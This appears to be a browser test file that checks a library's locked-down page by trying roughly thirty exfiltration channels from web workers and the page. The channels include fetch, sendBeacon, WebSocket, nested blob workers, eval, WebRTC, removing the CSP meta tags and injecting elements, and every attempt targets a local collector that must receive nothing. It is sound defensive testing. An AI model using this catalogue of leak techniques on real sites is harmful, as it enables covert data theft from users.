@@ -1,0 +1,155 @@
+// Once the page has locked its network, nothing gets out of the worker that sees pictures: every way
+// that a worker has is tried against a collector, which must see none of them.
+import assert from "node:assert/strict";
+import { createSocket } from "node:dgram";
+import { createServer } from "node:http";
+import { after, before, it } from "node:test";
+import { inBrowsers, ready, servers } from "./harness.mjs";
+
+const s = servers();
+const seen = [];
+let tcp;
+let udp;
+before(async () => {
+  tcp = createServer((request, response) => {
+    seen.push(request.url);
+    response.setHeader("access-control-allow-origin", "*");
+    response.end("ok");
+  });
+  tcp.on("connection", () => seen.push("a connection"));
+  await new Promise((f) => tcp.listen(0, "127.0.0.1", f));
+  udp = createSocket("udp4").on("message", () => seen.push("a packet"));
+  await new Promise((f) => udp.bind(tcp.address().port, "127.0.0.1", f));
+});
+after(() => {
+  tcp.closeAllConnections();
+  tcp.close();
+  udp.close();
+});
+
+// The ways out of a worker. Each is tried; what a browser lacks throws, which is as good as refused.
+const ways = `{
+  fetch: (to) => fetch(to("fetch")),
+  fetchNoCors: (to) => fetch(to("no-cors"), { mode: "no-cors", method: "POST", body: "pixels" }),
+  fetchKeepalive: (to) => fetch(to("keepalive"), { keepalive: true, method: "POST", body: "pixels" }),
+  fetchRequest: (to) => fetch(new Request(to("request"), { cache: "no-store" })),
+  fetchStream: (to) => fetch(to("stream"), { method: "POST", duplex: "half", body: new Blob(["pixels"]).stream() }),
+  ownOrigin: () => fetch(location.origin + "/leak"),
+  xhr: (to) => { const x = new XMLHttpRequest(); x.open("POST", to("xhr")); x.send("pixels"); },
+  xhrSync: (to) => { const x = new XMLHttpRequest(); x.open("GET", to("xhr-sync"), false); x.send(); },
+  webSocket: (to) => new WebSocket(to("ws").replace("http", "ws")),
+  webSocketStream: (to) => new WebSocketStream(to("wss").replace("http", "ws")),
+  eventSource: (to) => new EventSource(to("events")),
+  beacon: (to) => navigator.sendBeacon(to("beacon"), "pixels"),
+  importScripts: (to) => importScripts(to("scripts")),
+  dynamicImport: (to) => import(to("module")),
+  worker: (to) => new Worker(to("worker")),
+  moduleWorker: (to) => new Worker(to("module-worker"), { type: "module" }),
+  sharedWorker: (to) => new SharedWorker(to("shared-worker")),
+  blobWorker: (to) => new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to("nested")) + ")"]))),
+  dataWorker: (to) => new Worker("data:text/javascript,fetch(" + JSON.stringify(to("data")) + ")"),
+  webTransport: (to) => new WebTransport(to("transport").replace("http:", "https:")).ready,
+  rtc: (to) => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + new URL(to("")).port }] }).createDataChannel("x"),
+  font: (to) => new FontFace("x", "url(" + to("font") + ")").load(),
+  cacheAdd: async (to) => (await caches.open("x")).add(to("cache")),
+  image: (to) => { new Image().src = to("image"); },
+  navigate: (to) => { location.href = to("location"); },
+  open: (to) => open(to("open")),
+  notification: (to) => new Notification("x", { icon: to("icon") }),
+  wasmStreaming: (to) => WebAssembly.instantiateStreaming(fetch(to("wasm"))),
+  codeFromText: (to) => (0, eval)("fetch(" + JSON.stringify(to("eval")) + ")"),
+  functionFromText: (to) => new Function("fetch(" + JSON.stringify(to("function")) + ")")(),
+  codeInTimer: (to) => setTimeout("fetch(" + JSON.stringify(to("timer")) + ")"),
+}`;
+
+const attempts = `async (base) => {
+  const ways = ${ways};
+  for (const [name, way] of Object.entries(ways)) {
+    try {
+      await Promise.race([way((path) => base + path), new Promise((f) => setTimeout(f, 500))]);
+    } catch {}
+  }
+  await new Promise((f) => setTimeout(f, 1000));
+  return Object.keys(ways).length;
+}`;
+
+/** Runs the attempts in a worker that a page makes from a blob, as the library makes its own. */
+const inBlobWorker = (page, base) => page.evaluate((attempts, base) => new Promise((resolve, reject) => {
+  const source = `(${attempts})(${JSON.stringify(base)}).then(postMessage)`;
+  const worker = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })));
+  worker.onmessage = (event) => resolve(event.data);
+  worker.onerror = (event) => reject(new Error(event.message));
+}), attempts, base);
+
+inBrowsers("privacy", (browser) => {
+  const base = () => `http://127.0.0.1:${tcp.address().port}/`;
+
+  it("not one gets out of a worker that the locked page makes", async () => {
+    const page = await browser.page(s.isolated.url);
+    await ready(page);
+    seen.length = 0;
+    const before = s.isolated.requests.length;
+    assert.ok((await inBlobWorker(page, base())) >= 15);
+    assert.deepEqual(seen, []);
+    assert.deepEqual(s.isolated.requests.slice(before), []);
+    await page.close();
+  });
+
+  it("nor out of the detector's own", { skip: browser.name === "firefox" && "no way into a worker" }, async () => {
+    const page = await browser.page(s.isolated.url);
+    await ready(page);
+    const worker = page.workers().find((w) => w.url().startsWith("blob:"));
+    seen.length = 0;
+    assert.ok((await worker.evaluate(`(${attempts})(${JSON.stringify(base())})`)) >= 15);
+    assert.deepEqual(seen, []);
+    await page.close();
+  });
+
+  it("the page itself loads and sends nothing, even when the policy's element is removed", async () => {
+    const page = await browser.page(s.isolated.url);
+    await ready(page);
+    seen.length = 0;
+    await page.evaluate(async (base) => {
+      for (const meta of document.querySelectorAll("meta[http-equiv]")) meta.remove();
+      const attempt = (f) => {
+        try {
+          f();
+        } catch {
+          // refused at once
+        }
+      };
+      const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
+      add("img", { src: `${base}img` });
+      add("script", { src: `${base}script` });
+      add("iframe", { src: `${base}iframe` });
+      add("video", { src: `${base}video` });
+      add("object", { data: `${base}object` });
+      add("link", { rel: "stylesheet", href: `${base}style` });
+      add("link", { rel: "prefetch", href: `${base}prefetch` });
+      add("link", { rel: "modulepreload", href: `${base}preload` });
+      add("a", { ping: `${base}ping`, href: "#x" });
+      attempt(() => document.body.lastElementChild.click());
+      document.body.style.backgroundImage = `url(${base}background)`;
+      const form = document.createElement("form");
+      Object.assign(form, { action: `${base}form`, method: "post", target: "_blank" });
+      document.body.append(form);
+      attempt(() => form.submit());
+      attempt(() => navigator.sendBeacon(`${base}beacon`, "pixels"));
+      await fetch(`${base}fetch`).catch(() => undefined);
+      await new Promise((f) => setTimeout(f, 1500));
+    }, base());
+    // A browser may open a connection for a navigation that it then refuses: it says nothing on it.
+    assert.deepEqual(seen.filter((what) => what !== "a connection"), []);
+    await page.close();
+  });
+
+  // Last, since a browser goes on trying for a while.
+  it("the attempts do reach the collector where nothing is locked", async () => {
+    const page = await browser.page(`${s.plain.url}test/blank.html`);
+    seen.length = 0;
+    await inBlobWorker(page, base());
+    const reached = new Set(seen.filter((path) => path.startsWith("/")));
+    assert.ok(reached.size >= 12, [...reached].join(" "));
+    await page.close();
+  });
+});
